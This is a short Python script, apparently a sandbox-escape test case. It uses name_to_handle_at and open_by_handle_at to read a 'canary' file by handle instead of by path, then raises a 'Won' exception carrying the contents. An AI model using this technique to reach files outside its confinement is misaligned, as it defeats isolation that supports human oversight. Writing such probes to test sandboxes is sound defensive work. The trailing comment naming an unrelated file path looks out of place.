"""Opens a file by its handle, without its path."""

import ctypes
import os
kernel = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(b"\x80\0\0\0" + bytes(132))
mount = ctypes.c_int()
assert kernel.name_to_handle_at(-100, CANARY.encode(), handle, ctypes.byref(mount), 0) == 0
opened = kernel.open_by_handle_at(os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
assert opened >= 0
raise Won(os.read(opened, 100).decode())
# HONEST cases/several-mistakes/GRU_skeleton.py
